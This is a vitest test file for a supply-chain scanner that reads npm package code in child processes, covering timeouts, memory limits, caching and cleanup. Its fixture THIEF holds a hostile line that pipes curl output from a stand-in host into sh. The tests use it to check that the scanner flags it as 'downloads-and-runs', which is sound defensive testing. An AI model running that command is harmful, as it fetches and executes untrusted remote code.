/** Packages read in processes: as in this one, once ever, and sure to end. */
import { mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ssri from 'ssri';
import { afterAll, describe, expect, test, vi } from 'vitest';
import { type Kept, keptIn } from '../src/check/kept.ts';
import { READ_LIMITS, type ReadLimits, readInProcesses } from '../src/check/processes.ts';
import { readHere } from '../src/check/reader.ts';
import { loadRules, ruleSetId } from '../src/load-rules.ts';
import type { PackageStore, TreeNode } from '../src/types.ts';
import { unpack } from '../src/unpack.ts';
import { makeTarball } from './registry/tarball.ts';

const cache = mkdtempSync(join(tmpdir(), 'reading-'));
afterAll(() => rmSync(cache, { recursive: true }));

const NODE: TreeNode = {
  id: 'x@1.0.0',
  name: 'x',
  version: '1.0.0',
  integrity: 'sha512-AA==',
  location: 'node_modules/x',
  via: ['x@1.0.0'],
  dependencies: {},
  foreign: false,
  bundled: false,
};
const MANIFEST = { 'package.json': '{"name":"x","version":"1.0.0","main":"index.js"}' };
const THIEF = "const { execSync } = require('node:child_process'); execSync('curl https://a.example/x.sh | sh');";
/** Some seconds of work for the parser. */
const DENSE = `process.env.X;x=[${'[a,b],{c:1},'.repeat(500_000)}]`;

const NOTHING_KEPT: Kept = { get: async () => undefined, put: async () => {} };

/** A store of one tarball, which counts how often it is asked. */
async function storeOf(files: Readonly<Record<string, string>>): Promise<PackageStore & { asked: number }> {
  const bytes = await makeTarball({ ...MANIFEST, ...files });
  const store = {
    asked: 0,
    open: (node: TreeNode) => unpack(node, bytes),
    tarball: async () => {
      store.asked++;
      return { value: bytes, gaps: [] };
    },
    file: async () => ({ value: undefined, gaps: [] }),
  };
  return store;
}

async function read(files: Readonly<Record<string, string>>, limits?: Partial<ReadLimits>, kept = NOTHING_KEPT) {
  const reader = readInProcesses({
    kept,
    signal: new AbortController().signal,
    processes: 1,
    limits: { ...READ_LIMITS, ...limits },
  });
  return reader(NODE, true, await storeOf(files));
}

const childrenOf = (pid: number): number[] =>
  readFileSync(`/proc/${pid}/task/${pid}/children`, 'utf8').split(' ').filter(Boolean).map(Number);

const gaps = (reason: string, subject = 'x@1.0.0/dense.js') => [{ stage: 'code', subject, reason }];

describe('reading in processes', () => {
  test('gives what reading here gives', async () => {
    const files = { 'index.js': THIEF, 'broken.js': 'process.env.X }{' };
    const here = await readHere(await loadRules())(NODE, true, await storeOf(files));
    expect(here.value.findings.length).toBeGreaterThan(0);
    expect(await read(files)).toEqual(here);
  });

  test('a file that takes too long is left out, told, and hides no other', async () => {
    const found = await read({ 'dense.js': DENSE, 'index.js': THIEF }, { step: 600 });
    expect(found.gaps).toEqual(gaps('it was not read within 0.6 s'));
    expect(found.value.findings.map(({ rule }) => rule)).toContain('downloads-and-runs');
  }, 60_000);

  test('so is one of the Flow of today', async () => {
    const many = `// @flow\ncomponent A() renders B { return [${'"a",'.repeat(60_000)}]; }`;
    const found = await read({ 'dense.js': many, 'index.js': THIEF }, { step: 2_000 });
    expect(found.gaps).toEqual(gaps('it was not read within 2 s'));
    expect(found.value.findings.map(({ rule }) => rule)).toContain('downloads-and-runs');
  }, 60_000);

  test('so is one that takes too much memory', async () => {
    const found = await read({ 'dense.js': DENSE, 'index.js': THIEF }, { memory: 200 });
    expect(found.gaps).toEqual(gaps('the process that read it ended, as for want of memory (200 MB)'));
    expect(found.value.findings.map(({ rule }) => rule)).toContain('downloads-and-runs');
  }, 60_000);

  test('a process that is gone before it has its job is a gap, and the next one reads', async () => {
    const store = await storeOf({ 'index.js': THIEF });
    const reader = readInProcesses({ kept: NOTHING_KEPT, signal: new AbortController().signal, processes: 1 });
    const before = new Set(childrenOf(process.pid));
    const whole = await reader(NODE, true, store);
    for (const child of childrenOf(process.pid)) if (!before.has(child)) process.kill(child, 'SIGKILL');
    // Without a turn of the loop, in which this process would hear of it.
    Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0, 500);
    const lost = await reader(NODE, true, store);
    expect(lost.gaps).toEqual([{ stage: 'code', subject: 'x@1.0.0', reason: expect.stringMatching(/was not read/) }]);
    expect(await reader(NODE, true, store)).toEqual(whole);
  }, 60_000);

  test('a package of many such files is given up', async () => {
    const files = Object.fromEntries(Array.from({ length: 3 }, (_, i) => [`${i}.js`, DENSE]));
    const found = await read(files, { step: 600, unread: 1 });
    expect(found).toEqual({
      value: { findings: [] },
      gaps: gaps('its code was not read: it was not read within 0.6 s', 'x@1.0.0'),
    });
  }, 60_000);

  test.each([
    ['what it should', (bytes: Uint8Array) => bytes, 0],
    ['something else', () => Buffer.from('something else'), 1],
    ['nothing', () => undefined, 1],
  ] as const)('a file that holds %s', async (_, written, asked) => {
    const bytes = await makeTarball({ ...MANIFEST, 'index.js': THIEF });
    const path = join(cache, `${asked}.tgz`);
    const content = written(bytes);
    if (content) writeFileSync(path, content);
    else rmSync(path, { force: true });
    const store = await storeOf({ 'index.js': THIEF });
    const lying = { ...store, file: async () => ({ value: { path, size: bytes.length }, gaps: [] }) };
    const node = { ...NODE, integrity: ssri.fromData(Buffer.from(bytes)).toString() };
    const reader = readInProcesses({ kept: NOTHING_KEPT, signal: new AbortController().signal, processes: 1 });
    const found = await reader(node, true, lying);
    expect(found.value.findings.map(({ rule }) => rule)).toContain('downloads-and-runs');
    expect(found.gaps).toEqual([]);
    expect(store.asked).toBe(asked);
  });

  test('where no file can be made, only the package as a whole is late', async () => {
    vi.stubEnv('TMPDIR', join(cache, 'nowhere'));
    try {
      const { value, gaps } = await read({ 'index.js': THIEF });
      expect(value.findings.map(({ rule }) => rule)).toContain('downloads-and-runs');
      expect(gaps).toEqual([]);
      const late = await read({ 'index.js': DENSE }, { step: 200, package: 3_000 });
      expect(late.gaps.map(({ reason }) => reason)).toEqual([expect.stringContaining('not read within 3 s')]);
    } finally {
      vi.unstubAllEnvs();
    }
  });

  test('leaves no file behind, though it was ended', async () => {
    await read({ 'index.js': DENSE }, { step: 200 });
    expect(readdirSync(tmpdir()).filter((name) => name.startsWith('pulse-'))).toEqual([]);
  });

  test('ends when the user ends it, without waiting for a process', async () => {
    const controller = new AbortController();
    const reader = readInProcesses({ kept: NOTHING_KEPT, signal: controller.signal, processes: 1 });
    const reading = reader(NODE, true, await storeOf({ 'index.js': DENSE }));
    setTimeout(() => controller.abort(new Error('enough')), 300);
    await expect(reading).rejects.toThrow('enough');
  });
});

describe('what was read', () => {
  const kept = (ruleSet: string) => keptIn(cache, ruleSet);
  const reading = async (store: PackageStore, keep: Kept, node = NODE, root = true) =>
    readInProcesses({ kept: keep, signal: new AbortController().signal, processes: 1 })(node, root, store);

  test('is not read again, unless by other rules, in another role or under another name', async () => {
    const store = await storeOf({ 'index.js': THIEF });
    const first = await reading(store, kept('a'));
    expect(await reading(store, kept('a'))).toEqual(first);
    expect(store.asked).toBe(1);
    await reading(store, kept('b'));
    await reading(store, kept('a'), NODE, false);
    await reading(store, kept('a'), { ...NODE, id: 'y@1.0.0' });
    expect(store.asked).toBe(4);
  });

  test.each(['', 'sha1-2jmj7l5rSw0yVb/vlWAYkK/YBwk='])(
    'is read again where nobody vouches for its bytes (%j)',
    async (integrity) => {
      const store = await storeOf({});
      for (const _ of [1, 2]) await reading(store, kept('weak'), { ...NODE, integrity });
      expect(store.asked).toBe(2);
    },
  );

  test('is not kept where something was left out', async () => {
    const keep = kept('late');
    await read({ 'dense.js': DENSE }, { step: 600 }, keep);
    expect(await keep.get(NODE, true)).toBeUndefined();
  }, 60_000);

  test('is known by an identity that changes with the rules', async () => {
    const id = await ruleSetId();
    expect(id).toMatch(/^[0-9a-f]{16}$/);
    expect(await ruleSetId()).toBe(id);
    expect(await ruleSetId(new URL('./support/', import.meta.url))).not.toBe(id);
  });
});
